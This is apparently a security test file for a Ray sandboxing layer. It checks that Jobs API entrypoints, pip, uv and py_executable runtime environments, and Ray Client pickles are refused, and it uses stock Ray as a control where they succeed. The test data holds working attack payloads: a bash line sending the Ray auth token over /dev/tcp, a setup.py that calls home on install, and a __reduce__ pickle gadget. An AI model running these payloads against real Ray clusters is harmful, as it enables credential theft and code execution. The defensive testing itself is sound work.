@@ -1,0 +1,200 @@
+"""Attacks through the Jobs API, Ray Client, and what the runtime_env agent runs.
+
+The same on stock Ray and on a node of ours; whoever can call home ran outside of
+every jail.
+"""
+
+from __future__ import annotations
+
+import json
+import tarfile
+from typing import Any
+
+import pytest
+
+from raysandbox.node.no_client import REASON
+from tests.node.home import CALL, SAFE, Home
+from tests.node.nodes import PLAIN, Node, free_port
+
+pytestmark = [pytest.mark.ray, pytest.mark.root]
+
+ATTACKS = """
+import json, threading
+from ray.job_submission import JobSubmissionClient
+
+found = {}
+
+started = []
+
+def attempt(name, start):
+    # All at once: each waits for processes of its own.
+    started.append(threading.Thread(target=run, args=(name, start)))
+    started[-1].start()
+
+def run(name, start):
+    try:
+        found[name] = start()
+    except BaseException as error:
+        found[name] = f"{type(error).__name__}: {error}"[:2000]
+
+client = JobSubmissionClient(f"http://127.0.0.1:{DASHBOARD}")
+
+def shell(name):
+    return (f"echo {name} $(id -u) $(cat $RAY_AUTH_TOKEN_PATH) > "
+            f"/dev/tcp/127.0.0.1/{HOME}")
+
+def job(name, **options):
+    def start():
+        made = client.submit_job(entrypoint=f"bash -c '{shell(name)}'", **options)
+        until = time.monotonic() + JOB_S
+        while not (status := client.get_job_status(made)).is_terminal():
+            if time.monotonic() > until:
+                client.stop_job(made)
+                return ["HUNG", str(client.get_job_info(made).message), ""]
+            time.sleep(0.2)
+        return [status.value, str(client.get_job_info(made).message)[:3000],
+                client.get_job_logs(made)[-1000:]]
+    return start
+
+def task(**options):
+    made = ray.remote(lambda: os.getpid()).options(**options)
+    return lambda: ray.get(made.remote(), timeout=60)
+
+pip = {"packages": [PACKAGE],
+       "pip_install_options": ["--no-index", "--no-deps", "--no-build-isolation"]}
+attempt("entrypoint", job("entrypoint"))
+attempt("entrypoint_tagged", job("entrypoint_tagged", entrypoint_resources=TAG))
+attempt("job_variables", job("job_variables", runtime_env={"env_vars": {
+    "LD_PRELOAD": "/nonexistent/evil.so", "PYTHONPATH": "/tmp"}}))
+attempt("job_pip", job("job_pip", runtime_env={"pip": pip}))
+attempt("job_py_executable", job("job_py_executable", runtime_env={
+    "py_executable": "bash -c '" + shell("job_py_executable") + "' "}))
+if not STOCK:
+    # There a job's is enough.
+    attempt("task_pip", task(runtime_env={"pip": pip}))
+    attempt("task_uv", task(runtime_env={"uv": {"packages": [PACKAGE]}}))
+for each in started:
+    each.join()
+print(json.dumps(found))
+"""
+CLIENT = """
+class Evil:
+    def __reduce__(self):
+        return (safe_call, ("client",))
+
+evil = Evil()
+ray.init(f"ray://{HOST}:{CLIENT}")
+try:
+    print(ray.get(ray.remote(lambda: evil and 7).remote(), timeout=30))
+except ray.exceptions.RayError as error:
+    print(type(error).__name__)
+"""
+
+
+@pytest.fixture(scope="module")
+def package(home: Home, tmp_path_factory: pytest.TempPathFactory) -> str:
+    """A source package whose setup.py calls home, and then fails."""
+    at = tmp_path_factory.mktemp("package")
+    setup = at / "setup.py"
+    call = (CALL + SAFE).format(port=home.port)
+    setup.write_text(f"{call}safe_call('setup.py')\nraise SystemExit(1)\n")
+    archive = at / "evil-1.0.tar.gz"
+    with tarfile.open(archive, "w:gz") as file:
+        file.add(setup, "evil-1.0/setup.py")
+    return str(archive)
+
+
+class Outcome:
+    """What the attacks came to on one node.
+
+    Attributes:
+        found: Attack to what its owner saw.
+        heard: Who called home.
+        client: What the client of ``ray://`` saw.
+    """
+
+    def __init__(self, home: Home, package: str, kind: str) -> None:
+        ports = {"DASHBOARD": free_port(), "CLIENT": free_port(), "HOME": home.port}
+        node = Node(
+            PLAIN if kind == "stock" else None,
+            arguments=[
+                "--include-dashboard=true",
+                f"--dashboard-port={ports['DASHBOARD']}",
+                f"--dashboard-agent-listen-port={free_port()}",
+                f"--ray-client-server-port={ports['CLIENT']}",
+            ],
+            RUNTIME_ENV_RETRY_TIMES="1",
+        )
+        before = len(home.heard)
+        try:
+            # On stock Ray another interpreter has made its call and serves no job.
+            values: dict[str, Any] = {
+                **ports, "PACKAGE": package, "TAG": {}, "JOB_S": 15,
+                "STOCK": kind == "stock", "HOST": node.host,
+            }  # fmt: skip
+            if kind == "ours":
+                values |= {"TAG": {"sandbox:standard": 1}, "JOB_S": 40}
+            names = "".join(f"{name} = {value!r}\n" for name, value in values.items())
+            self.found = json.loads(node.drive(names + ATTACKS).splitlines()[-1])
+            code = (CALL + SAFE).format(port=home.port)
+            self.client = node.run(f"import ray\n{names}{code}{CLIENT}")
+            self.heard = {word.split()[0] for word in home.heard[before:]}
+            self.words = home.heard[before:]
+        finally:
+            node.close()
+
+
+@pytest.fixture(scope="module")
+def stock(home: Home, package: str) -> Outcome:
+    """Stock Ray."""
+    return Outcome(home, package, "stock")
+
+
+@pytest.fixture(scope="module")
+def ours(home: Home, package: str, stock: Outcome) -> Outcome:
+    """A node of ours, after the control."""
+    return Outcome(home, package, "ours")
+
+
+JOBS = ["entrypoint", "entrypoint_tagged", "job_variables"]
+REFUSED = {
+    "job_pip": "pip",
+    "job_py_executable": "py_executable",
+    "task_pip": "pip",
+    "task_uv": "uv",
+}
+
+
+def test_control_all_of_it_works_on_stock_ray(stock):
+    """Entrypoints as root, with the token; setup.py, an interpreter, a client."""
+    assert stock.heard == {*JOBS, "job_py_executable", "setup.py", "client"}
+    assert any("0 0123456789abcdef" in word for word in stock.words)
+
+
+def test_nothing_of_it_runs_outside_of_a_jail(ours):
+    """No entrypoint, no installer, no interpreter, no client's pickle is executed."""
+    assert ours.heard == set()
+
+
+@pytest.mark.parametrize("name", JOBS)
+def test_an_entrypoint_is_refused_in_words(ours, name):
+    """The job fails at once; its status names the Jobs API and what to do instead."""
+    status, message, _ = ours.found[name]
+    assert status == "FAILED"
+    assert "an entrypoint of the Jobs API" in message
+    assert "start the driver yourself, with ray.init" in message
+
+
+@pytest.mark.parametrize("name", sorted(REFUSED))
+def test_what_the_agent_would_run_is_refused_before_it_does(ours, name):
+    """The error names the runtime_env's key and the policy's that would allow it."""
+    found, key = ours.found[name], REFUSED[name]
+    said = found if isinstance(found, str) else found[1]
+    assert f"runtime_env key '{key}': refused by this node's policy" in said
+    assert f'runtime_env.{key} = "allow"' in said
+
+
+def test_ray_client_is_refused_in_words(ours):
+    """At once, and not as a timeout; nothing that the client sent was opened."""
+    assert ours.client.returncode != 0
+    assert REASON in ours.client.stderr
